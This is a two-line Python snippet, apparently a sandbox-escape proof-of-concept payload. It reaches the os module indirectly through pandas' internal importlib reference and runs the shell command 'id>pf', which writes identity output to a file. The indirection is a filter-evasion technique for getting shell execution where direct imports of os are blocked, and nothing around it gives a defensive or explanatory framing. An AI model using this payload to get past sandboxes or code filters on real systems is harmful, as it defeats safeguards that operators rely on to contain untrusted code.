import pandas
pandas.compat._optional.importlib.import_module("os").system("id>pf")
